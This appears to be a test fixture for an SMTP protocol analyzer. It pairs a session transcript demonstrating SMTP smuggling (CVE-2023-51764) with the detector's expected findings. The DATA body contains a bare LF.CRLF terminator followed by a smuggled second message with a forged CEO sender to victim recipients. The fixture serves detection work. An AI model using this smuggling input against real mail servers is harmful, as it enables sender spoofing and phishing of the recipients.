# SMTP: LF.CRLF and a mail behind it, to a server that takes it for the end: two messages (RFC 5321 4.1.1.4, CVE-2023-51764)
# With a side or a segment missing nothing tells which of the two the server read.
without: loss one-sided snaplen

S: 220 mx.example.net
C: EHLO c
S: 250 mx
C: MAIL FROM:<a@example.org>
S: 250 OK
C: RCPT TO:<b@example.net>
S: 250 OK
C: DATA
S: 354 go on
C: Subject: harmless
C:
C: text\n.\r\n\
C: MAIL FROM:<ceo@example.net>
C: RCPT TO:<victim@example.net>
C: RCPT TO:<other@example.net>
C: DATA
C: Subject: smuggled
C:
C: text
C: .
S: 250 first queued
S: 250 sender OK
S: 250 recipient OK
S: 250 recipient OK
S: 354 go on
S: 250 second queued
C: QUIT
S: 221 Bye
---
finding rule.id=smtp.bare_lf finding.severity=low confidence=confirmed
  event.reason="The message has 1 LF without CR, the first in line 3 of what was sent."
finding rule.id=smtp.smuggling finding.severity=critical confidence=confirmed mailwire.message_id=1
  event.reason="RFC 5321 reads one message of 150 octets from <a@example.org> to <b@example.net>. A server for which LF.CRLF ends a message reads one of 26 octets, then 4 commands and 1 further message, the next of 27 octets from <ceo@example.net> to <victim@example.net> and 1 more. This server gave 6 replies where one message has one: it answered what was smuggled."
  evidence.0.what="the lenient end" evidence.0.text=LF.CRLF evidence.0.octets=3
  evidence.1.what="a smuggled command" evidence.1.text="MAIL FROM:<ceo@example.net>"
  evidence.4.text=DATA evidence.5.what="the reply to the message" evidence.5.text="first queued"
  evidence.6.what="a further reply" evidence.6.text="sender OK" evidence.10.text="second queued"
  evidence.11=-
message subject=harmless envelope.reply_text="first queued"
command seq=0
command verb=EHLO
command verb=MAIL
command verb=RCPT
command verb=DATA
command verb=. reply_text="first queued"
command verb=- reply_text="sender OK" note="to a command that the server read in the message"
command verb=- reply_text="recipient OK" note="to a command that the server read in the message"
command verb=- reply_text="recipient OK" note="to a command that the server read in the message"
command verb=- reply_code=354 note="to a command that the server read in the message"
command verb=- reply_text="second queued" note="to a command that the server read in the message"
command verb=QUIT reply_code=221
session messages=1
